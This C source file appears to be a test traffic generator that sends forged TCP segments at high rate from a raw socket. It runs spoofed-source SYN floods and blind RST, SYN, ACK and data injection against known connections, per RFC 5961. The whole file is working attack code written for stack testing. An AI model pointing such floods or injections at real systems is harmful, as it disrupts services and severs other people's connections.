/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * ptg-synflood: forged TCP segments at volume from an AF_PACKET raw socket,
 * for the attack tests (tcp_synflood.sh, tcp_inject.sh). A Python raw
 * socket sends a few tens of thousands of frames a second; this sends as
 * fast as the kernel takes them.
 *
 * main() -> parse options -> open_socket() -> run(): fill a batch of frames
 * (build_syn() | build_inject()), sendmmsg() it, until --count frames or
 * --seconds elapsed -> one summary line on stdout.
 *
 *   ptg-synflood syn --iface IF --dst-mac MAC --dst-ip IP --dport N
 *       --src-net A.B.C.0 --src-first N --src-last N
 *       [--count N] [--seconds S] [--rate PPS] [--seed N]
 *     SYNs from random hosts A.B.C.first..last, random source ports and
 *     ISNs, an MSS option (as a real client sends).
 *
 *   ptg-synflood inject --iface IF --dst-mac MAC --dst-ip IP --dport N
 *       --tuple SRC_IP:SPORT [--tuple ...] [--kinds rst,syn,ack,data]
 *       [--rst-step N] [--count N] [--seconds S] [--rate PPS] [--seed N]
 *     Blind attacks on established connections (RFC 5961): an attacker
 *     that knows each 4-tuple but not its sequence numbers. In turn over
 *     tuples and kinds:
 *       rst   RST, sequence numbers sweeping the space by --rst-step
 *             (default 65536) from a random start: a sweep of 2^32/step
 *             RSTs puts at least one inside any window of step bytes or
 *             more, which RFC 5961 3.2 answers with a challenge ACK
 *       syn   SYN with a random sequence number (RFC 5961 4)
 *       ack   ACK, random sequence and acknowledgment numbers (RFC 5961 5)
 *       data  100 bytes with random sequence and acknowledgment numbers
 *
 * Output: "sent N frames in T s: R frames/s (send errors E)" and, for
 * inject, "kind K: N" per kind. Exit status 0, 2 on bad options, 1 when
 * the socket cannot be opened.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_MAX 256
#define DATA_LEN 100
#define TUPLES_MAX 64

enum kind { K_RST, K_SYN, K_ACK, K_DATA, K_NB };
static const char *const kind_name[K_NB] = { "rst", "syn", "ack", "data" };

struct tuple {
	uint32_t src_ip; /* network order */
	uint16_t sport;  /* host order */
	uint32_t rst_seq; /* next RST of the sweep */
};

struct flood {
	int inject;
	int fd;
	uint8_t src_mac[6], dst_mac[6];
	uint32_t dst_ip;
	uint16_t dport;
	uint32_t src_net;
	unsigned int src_first, src_last;
	uint64_t count;
	double seconds;
	double rate;
	uint64_t rng;
	struct tuple tuples[TUPLES_MAX];
	unsigned int nb_tuples;
	unsigned int kinds[K_NB];
	unsigned int nb_kinds;
	uint32_t rst_step;
	uint64_t per_kind[K_NB];
	uint64_t turn;
};

static uint64_t
rnd(struct flood *f)
{
	/* xorshift64*: fast, and good enough for forged header fields */
	f->rng ^= f->rng >> 12;
	f->rng ^= f->rng << 25;
	f->rng ^= f->rng >> 27;
	return f->rng * 0x2545F4914F6CDD1DULL;
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint32_t
sum16(const void *p, size_t len, uint32_t acc)
{
	const uint8_t *b = p;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		acc += (uint32_t)b[i] << 8 | b[i + 1];
	if (len & 1)
		acc += (uint32_t)b[len - 1] << 8;
	return acc;
}

static uint16_t
fold(uint32_t acc)
{
	while (acc >> 16)
		acc = (acc & 0xffff) + (acc >> 16);
	return (uint16_t)~acc;
}

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v & 0xff;
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

/*
 * Ethernet + IPv4 + TCP with both checksums; @p opt_len bytes of options
 * and @p data_len bytes of payload already at their place (after the
 * 20-byte TCP header). Returns the frame length.
 */
static size_t
build_frame(struct flood *f, uint8_t *fr, uint32_t src_ip,
	    uint16_t sport, uint32_t seq, uint32_t ack, uint8_t flags,
	    size_t opt_len, size_t data_len)
{
	uint8_t *ip = fr + 14, *tcp = ip + 20;
	size_t tcp_len = 20 + opt_len + data_len;
	uint32_t acc;

	memcpy(fr, f->dst_mac, 6);
	memcpy(fr + 6, f->src_mac, 6);
	put16(fr + 12, ETHERTYPE_IP);

	ip[0] = 0x45;
	ip[1] = 0;
	put16(ip + 2, (uint16_t)(20 + tcp_len));
	put16(ip + 4, (uint16_t)rnd(f)); /* IP ID */
	put16(ip + 6, 0x4000); /* DF */
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put16(ip + 10, 0);
	memcpy(ip + 12, &src_ip, 4);
	memcpy(ip + 16, &f->dst_ip, 4);
	put16(ip + 10, fold(sum16(ip, 20, 0)));

	put16(tcp, sport);
	put16(tcp + 2, f->dport);
	put32(tcp + 4, seq);
	put32(tcp + 8, ack);
	tcp[12] = (uint8_t)(((20 + opt_len) / 4) << 4);
	tcp[13] = flags;
	put16(tcp + 14, 64240);
	put16(tcp + 16, 0);
	put16(tcp + 18, 0);
	/* RFC 9293 3.1: the pseudo-header, then the segment */
	acc = sum16(ip + 12, 8, 0);
	acc += IPPROTO_TCP + (uint32_t)tcp_len;
	acc = sum16(tcp, tcp_len, acc);
	put16(tcp + 16, fold(acc));
	return 14 + 20 + tcp_len;
}

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

static size_t
build_syn(struct flood *f, uint8_t *fr)
{
	uint8_t *opt = fr + 14 + 20 + 20;
	unsigned int span = f->src_last - f->src_first + 1;
	uint32_t host = f->src_first + (uint32_t)(rnd(f) % span);
	uint32_t src = htonl(ntohl(f->src_net) + host);
	uint16_t sport = (uint16_t)(1024 + rnd(f) % (65536 - 1024));

	opt[0] = 2; /* MSS 1460 */
	opt[1] = 4;
	put16(opt + 2, 1460);
	return build_frame(f, fr, src, sport, (uint32_t)rnd(f), 0, TH_SYN, 4,
			   0);
}

static size_t
build_inject(struct flood *f, uint8_t *fr)
{
	struct tuple *t = &f->tuples[f->turn % f->nb_tuples];
	enum kind k = f->kinds[(f->turn / f->nb_tuples) % f->nb_kinds];
	uint8_t *data = fr + 14 + 20 + 20;
	size_t len;

	f->turn++;
	f->per_kind[k]++;
	switch (k) {
	case K_RST:
		len = build_frame(f, fr, t->src_ip, t->sport, t->rst_seq, 0,
				  TH_RST, 0, 0);
		t->rst_seq += f->rst_step;
		return len;
	case K_SYN:
		return build_frame(f, fr, t->src_ip, t->sport,
				   (uint32_t)rnd(f), 0, TH_SYN, 0, 0);
	case K_ACK:
		return build_frame(f, fr, t->src_ip, t->sport,
				   (uint32_t)rnd(f), (uint32_t)rnd(f), TH_ACK,
				   0, 0);
	case K_DATA:
	default:
		memset(data, 'X', DATA_LEN);
		return build_frame(f, fr, t->src_ip, t->sport,
				   (uint32_t)rnd(f), (uint32_t)rnd(f),
				   TH_ACK | TH_PSH, 0, DATA_LEN);
	}
}

static int
open_socket(struct flood *f, const char *ifname)
{
	struct sockaddr_ll sll;
	struct ifreq ifr;
	int one = 1;

	f->fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (f->fd < 0) {
		perror("socket(AF_PACKET)");
		return -1;
	}
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(f->fd, SIOCGIFHWADDR, &ifr) < 0) {
		perror(ifname);
		return -1;
	}
	memcpy(f->src_mac, ifr.ifr_hwaddr.sa_data, 6);
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (sll.sll_ifindex == 0 ||
	    bind(f->fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror(ifname);
		return -1;
	}
	/* straight to the driver, no qdisc (best effort: old kernels lack it) */
	setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return 0;
}

static int
run(struct flood *f)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	uint64_t sent = 0, errors = 0;
	double t0 = now_s(), t, dt;
	unsigned int i, n;
	int r;

	memset(msgs, 0, sizeof(msgs));
	for (;;) {
		t = now_s() - t0;
		if (sent >= f->count || t >= f->seconds)
			break;
		/* --rate: no more than rate * elapsed so far */
		if (f->rate > 0 && sent >= (uint64_t)(f->rate * t)) {
			usleep(100);
			continue;
		}
		n = BATCH;
		if (f->count - sent < n)
			n = (unsigned int)(f->count - sent);
		for (i = 0; i < n; i++) {
			iov[i].iov_base = frames[i];
			iov[i].iov_len = f->inject ? build_inject(f, frames[i])
						   : build_syn(f, frames[i]);
			msgs[i].msg_hdr.msg_iov = &iov[i];
			msgs[i].msg_hdr.msg_iovlen = 1;
		}
		r = sendmmsg(f->fd, msgs, n, 0);
		if (r < 0) {
			if (errno != ENOBUFS && errno != EAGAIN &&
			    errno != EINTR) {
				perror("sendmmsg");
				return 1;
			}
			errors += n;
			continue;
		}
		sent += (unsigned int)r;
		errors += n - (unsigned int)r;
	}
	dt = now_s() - t0;
	printf("sent %llu frames in %.2f s: %.0f frames/s (send errors %llu)\n",
	       (unsigned long long)sent, dt, dt > 0 ? sent / dt : 0.0,
	       (unsigned long long)errors);
	if (f->inject)
		for (i = 0; i < K_NB; i++)
			printf("kind %s: %llu\n", kind_name[i],
			       (unsigned long long)f->per_kind[i]);
	return 0;
}

static int
parse_mac(const char *s, uint8_t mac[6])
{
	unsigned int b[6], i;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4],
		   &b[5]) != 6)
		return -1;
	for (i = 0; i < 6; i++) {
		if (b[i] > 255)
			return -1;
		mac[i] = (uint8_t)b[i];
	}
	return 0;
}

static int
parse_tuple(struct flood *f, const char *s)
{
	char ip[32];
	const char *colon = strchr(s, ':');
	struct tuple *t;
	long port;

	if (colon == NULL || (size_t)(colon - s) >= sizeof(ip) ||
	    f->nb_tuples == TUPLES_MAX)
		return -1;
	memcpy(ip, s, (size_t)(colon - s));
	ip[colon - s] = '\0';
	port = strtol(colon + 1, NULL, 10);
	t = &f->tuples[f->nb_tuples];
	if (inet_pton(AF_INET, ip, &t->src_ip) != 1 || port < 1 ||
	    port > 65535)
		return -1;
	t->sport = (uint16_t)port;
	f->nb_tuples++;
	return 0;
}

static int
parse_kinds(struct flood *f, const char *s)
{
	char buf[64], *tok, *save = NULL;
	unsigned int k;

	snprintf(buf, sizeof(buf), "%s", s);
	f->nb_kinds = 0;
	for (tok = strtok_r(buf, ",", &save); tok != NULL;
	     tok = strtok_r(NULL, ",", &save)) {
		for (k = 0; k < K_NB; k++)
			if (strcmp(tok, kind_name[k]) == 0)
				break;
		if (k == K_NB || f->nb_kinds == K_NB)
			return -1;
		f->kinds[f->nb_kinds++] = k;
	}
	return f->nb_kinds > 0 ? 0 : -1;
}

static int
usage(const char *why)
{
	fprintf(stderr, "ptg-synflood: %s\n"
		"usage: ptg-synflood syn|inject --iface IF --dst-mac MAC "
		"--dst-ip IP --dport N\n"
		"  syn:    --src-net A.B.C.0 --src-first N --src-last N\n"
		"  inject: --tuple IP:PORT ... [--kinds rst,syn,ack,data] "
		"[--rst-step N]\n"
		"  both:   [--count N] [--seconds S] [--rate PPS] [--seed N]\n",
		why);
	return 2;
}

int
main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "iface", required_argument, NULL, 'i' },
		{ "dst-mac", required_argument, NULL, 'm' },
		{ "dst-ip", required_argument, NULL, 'd' },
		{ "dport", required_argument, NULL, 'p' },
		{ "src-net", required_argument, NULL, 'n' },
		{ "src-first", required_argument, NULL, 'f' },
		{ "src-last", required_argument, NULL, 'l' },
		{ "tuple", required_argument, NULL, 't' },
		{ "kinds", required_argument, NULL, 'k' },
		{ "rst-step", required_argument, NULL, 'r' },
		{ "count", required_argument, NULL, 'c' },
		{ "seconds", required_argument, NULL, 's' },
		{ "rate", required_argument, NULL, 'R' },
		{ "seed", required_argument, NULL, 'S' },
		{ NULL, 0, NULL, 0 },
	};
	static struct flood f;
	const char *ifname = NULL;
	unsigned long long seed = 1;
	unsigned int i;
	int c, have_mac = 0;

	if (argc < 2)
		return usage("syn or inject?");
	if (strcmp(argv[1], "inject") == 0)
		f.inject = 1;
	else if (strcmp(argv[1], "syn") != 0)
		return usage("the first argument is syn or inject");
	f.count = 1000000;
	f.seconds = 10;
	f.rst_step = 65536;
	f.src_first = 10;
	f.src_last = 250;
	f.nb_kinds = K_NB;
	for (i = 0; i < K_NB; i++)
		f.kinds[i] = i;
	optind = 2;
	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'i': ifname = optarg; break;
		case 'm':
			if (parse_mac(optarg, f.dst_mac) < 0)
				return usage("--dst-mac: not a MAC address");
			have_mac = 1;
			break;
		case 'd':
			if (inet_pton(AF_INET, optarg, &f.dst_ip) != 1)
				return usage("--dst-ip: not an IPv4 address");
			break;
		case 'p': f.dport = (uint16_t)strtoul(optarg, NULL, 10); break;
		case 'n':
			if (inet_pton(AF_INET, optarg, &f.src_net) != 1)
				return usage("--src-net: not an IPv4 address");
			break;
		case 'f': f.src_first = (unsigned int)strtoul(optarg, NULL, 10); break;
		case 'l': f.src_last = (unsigned int)strtoul(optarg, NULL, 10); break;
		case 't':
			if (parse_tuple(&f, optarg) < 0)
				return usage("--tuple: IP:PORT (at most 64)");
			break;
		case 'k':
			if (parse_kinds(&f, optarg) < 0)
				return usage("--kinds: rst,syn,ack,data");
			break;
		case 'r': f.rst_step = (uint32_t)strtoul(optarg, NULL, 0); break;
		case 'c': f.count = strtoull(optarg, NULL, 10); break;
		case 's': f.seconds = strtod(optarg, NULL); break;
		case 'R': f.rate = strtod(optarg, NULL); break;
		case 'S': seed = strtoull(optarg, NULL, 0); break;
		default: return usage("unknown option");
		}
	}
	if (ifname == NULL || !have_mac || f.dst_ip == 0 || f.dport == 0)
		return usage("--iface, --dst-mac, --dst-ip and --dport are needed");
	if (f.inject && f.nb_tuples == 0)
		return usage("inject needs --tuple");
	if (!f.inject && (f.src_net == 0 || f.src_first > f.src_last ||
			  f.src_last > 255))
		return usage("syn needs --src-net and 0 <= --src-first <= --src-last <= 255");
	if (f.seconds <= 0 || f.seconds > 600 || f.count == 0)
		return usage("--seconds in (0, 600], --count at least 1");
	f.rng = seed * 0x9E3779B97F4A7C15ULL | 1;
	for (i = 0; i < f.nb_tuples; i++)
		f.tuples[i].rst_seq = (uint32_t)rnd(&f);
	if (open_socket(&f, ifname) < 0)
		return 1;
	c = run(&f);
	close(f.fd);
	return c;
}
